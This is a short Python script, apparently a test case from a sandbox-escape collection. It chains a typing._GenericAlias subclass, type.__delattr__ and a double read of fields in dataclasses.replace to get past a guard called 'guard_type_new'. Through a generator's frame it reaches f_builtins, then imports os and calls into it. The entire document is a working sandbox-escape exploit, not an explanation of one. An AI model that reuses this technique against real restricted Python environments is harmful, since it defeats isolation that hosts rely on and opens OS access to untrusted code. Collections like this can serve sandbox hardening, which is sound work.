# technique: type.__delattr__ on a user subclass of typing._GenericAlias, after guard_type_new, restores typing's __getattr__ forwarding; dataclasses.replace's wrapper reads the fields twice (dict subclass values()), so replace() does getattr(obj, 'gi_frame') from a stdlib frame -> generator frame -> f_builtins
# expect: any
import dataclasses, json, typing
@dataclasses.dataclass
class D:
    x: int = 0
F = D.__dataclass_fields__["x"]
TARGET = [None]
calls = [0]
class FD(dict):
    def values(self):
        calls[0] += 1
        F.name = "x" if calls[0] == 1 else TARGET[0]   # wrapper check sees "x", replace() sees TARGET
        return [F]
got = []
GA = type(typing.List[int])                            # typing._GenericAlias (Python __getattr__ forwarding)
def new(cls, *a, **kw):
    if kw and "name" not in kw:
        got.append(kw)
        return None
    return object.__new__(cls)
def ga(self, name):
    raise AttributeError(name)
X = type("X", (GA,), {"__getattr__": ga, "__new__": new, "__dataclass_fields__": FD()}, _root=True)
type.__delattr__(X, "__getattr__")                     # after guard_type_new: now inherits typing's forwarding
def uget(obj, name):
    TARGET[0] = name
    calls[0] = 0
    x = X(obj, (int,), name="x")
    dataclasses.replace(x)
    return got.pop()[name]
gen = json.JSONEncoder().iterencode({"a": 1})
fr = uget(gen, "gi_frame")
print(fr)
b = uget(fr, "f_builtins")
os_mod = b["__import__"]("os")
print(b["open"], os_mod, os_mod.getpid())
